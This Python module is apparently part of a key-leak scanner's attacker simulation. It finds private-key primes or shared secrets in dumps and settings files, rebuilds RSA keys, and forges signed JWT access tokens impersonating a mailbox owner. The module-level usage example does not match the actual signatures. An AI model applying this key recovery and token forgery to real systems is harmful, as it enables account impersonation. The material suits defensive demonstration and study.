"""What the attacker does. He has the files that he found, and what anybody can read; nothing else.

    thief = Thief(public_keys)
    key = thief.search(Path("debugging"))       # None if there is no key in what he has
    token = thief.forge(key, issuer, mailbox)

His tools are ours: the scanner tells where in a dump a number of the key stands, he reads that number there,
and from one prime all of an RSA key follows.
"""

from __future__ import annotations

import hmac
import secrets
import time
import tomllib
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final

from immure.errors import ImmureError
from immure.keymaterial.key import PublicKey, RsaNumbers
from immure.keymaterial.private import RsaPrivate, rsa_from_prime
from immure.replay.identity import base64url, segment
from immure.scanning.finding import Finding, ImageReport, Occurrence, ScanReport
from immure.scanning.options import ScanOptions
from immure.scanning.scanner import scan_targets
from immure.secret import Secret

#: A program of the provider's own, which he says that he is.
PROGRAM: Final = "web-mail"
_SECONDS: Final = 3600
_MOST_NUMBER: Final = 1 << 14
#: A prime in these writings can be read without knowing more of them.
_PLAIN: Final = {"le64": "little", "le32": "little", "be": "big", "be-minimal": "big"}


@dataclass(frozen=True, slots=True)
class StolenKey:
    """A private key that was put together from what was found.

    Attributes:
        kid: what its issuer calls it; a made-up name if it was not stolen at all.
        how: what it was made from, in words.
        genuine: False for a key that he made himself, having found none.
    """

    kid: str
    how: str
    genuine: bool
    private: Any = field(repr=False)

    def token(self, claims: dict[str, Any]) -> str:
        """A token in compact form: RS256, or HS256 with a shared secret (RFC 7518, sections 3.2 and 3.3)."""
        shared = isinstance(self.private, Secret)
        header = {"alg": "HS256" if shared else "RS256", "kid": self.kid, "typ": "at+jwt"}
        signed = f"{segment(header)}.{segment(claims)}"
        return f"{signed}.{base64url(self._signature(signed.encode()))}"

    def _signature(self, signed: bytes) -> bytes:
        from cryptography.hazmat.primitives import hashes
        from cryptography.hazmat.primitives.asymmetric import padding

        if isinstance(self.private, Secret):
            return hmac.digest(self.private.reveal(), signed, "sha256")
        return bytes(self.private.sign(signed, padding.PKCS1v15(), hashes.SHA256()))


class Thief:
    """The attacker.

    Args:
        publics: public keys, from documents that anybody can read.
        account: a token of an account of his own: he knows what tokens look like, and may copy its ``jti``.
    """

    def __init__(self, publics: Sequence[PublicKey], account: dict[str, Any]) -> None:
        self._publics = tuple(publics)
        self._account = account

    def search(self, room: Path) -> tuple[StolenKey | None, ScanReport]:
        """Look for a private half in all files of a directory.

        Returns:
            The key, and what the scanner said.
        """
        report = scan_targets([str(room)], keys=self._publics, options=ScanOptions(harvest=False))
        for image in report.images:
            for finding in image.findings:
                key = _rebuilt(image, finding)
                if key is not None:
                    return key, report
        return None, report

    def read_settings(self, room: Path) -> StolenKey | None:
        """Look for a shared secret in the settings that lie in a directory."""
        for path in sorted(room.glob("*.toml")):
            try:
                tokens = tomllib.loads(path.read_text(encoding="utf-8"))["tokens"]
                secret = bytes.fromhex(tokens["secret"])
            except (OSError, ValueError, KeyError, TypeError):
                continue  # other settings
            return StolenKey(str(tokens["kid"]), f"the secret in {path.name}", True, Secret(secret))
        return None

    def made_up(self, kid: str) -> StolenKey:
        """A key of his own under the name of the one that he wants: all that he can do without."""
        from cryptography.hazmat.primitives.asymmetric import rsa

        private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        return StolenKey(kid, "made up, as none was found", False, private)

    def forge(
        self, key: StolenKey, issuer: str, audience: str, mailbox: str, tenant: str, *, copied: bool
    ) -> str:
        """A token that says that the owner of a mailbox has signed in at ``issuer``.

        Args:
            copied: take the ``jti`` of a genuine token, to be found where somebody looks for that.
        """
        now = int(time.time())
        claims = {
            "iss": issuer,
            "sub": mailbox,
            "aud": audience,
            "client_id": PROGRAM,
            "iat": now,
            "exp": now + _SECONDS,
            "jti": self._account["jti"] if copied else secrets.token_urlsafe(16),
            "tid": tenant,
        }
        return key.token(claims)


def _rebuilt(image: ImageReport, finding: Finding) -> StolenKey | None:
    """The private key of a finding, by reading one of its numbers where it stands."""
    numbers = finding.key.numbers
    if not isinstance(numbers, RsaNumbers):
        return None
    for one in finding.occurrences:
        if not one.whole:
            continue
        private = _from_prime(image, one, numbers) or _from_file(image, one)
        if private is not None:
            place = f"{one.offset:#x} of {Path(image.path).name}"
            return StolenKey(finding.key.origin.kid or "", f"{_words(one)} at {place}", True, private)
    return None


def _words(one: Occurrence) -> str:
    return f"prime {one.secret} ({one.encoding})" if one.secret in "pq" else f"private key ({one.encoding})"


def _from_prime(image: ImageReport, one: Occurrence, numbers: RsaNumbers) -> Any:
    order = _PLAIN.get(one.encoding)
    if one.secret not in ("p", "q") or order is None or one.length > _MOST_NUMBER:
        return None
    try:
        prime = int.from_bytes(_bytes(image.path, one), "little" if order == "little" else "big")
        return _usable(rsa_from_prime(numbers, prime))
    except (ImmureError, OSError):  # not that number after all: there are other places
        return None


def _from_file(image: ImageReport, one: Occurrence) -> Any:
    """A whole encoded key, as key files have it."""
    from cryptography.hazmat.primitives.serialization import load_der_private_key, load_pem_private_key

    if one.secret != "key" or one.length > _MOST_NUMBER:
        return None
    try:
        data = _bytes(image.path, one)
        return (load_pem_private_key if "pem" in one.encoding else load_der_private_key)(data, None)
    except (OSError, ValueError, TypeError):
        return None


def _bytes(path: str, one: Occurrence) -> bytes:
    with open(path, "rb") as stream:
        stream.seek(one.offset)
        return stream.read(one.length)


def _usable(private: RsaPrivate) -> Any:
    from cryptography.hazmat.primitives.asymmetric import rsa

    p, q, d, dp, dq, qinv = (getattr(private, name).reveal() for name in ("p", "q", "d", "dp", "dq", "qinv"))
    public = rsa.RSAPublicNumbers(private.public.e, private.public.n)
    return rsa.RSAPrivateNumbers(p, q, d, dp, dq, qinv, public).private_key()
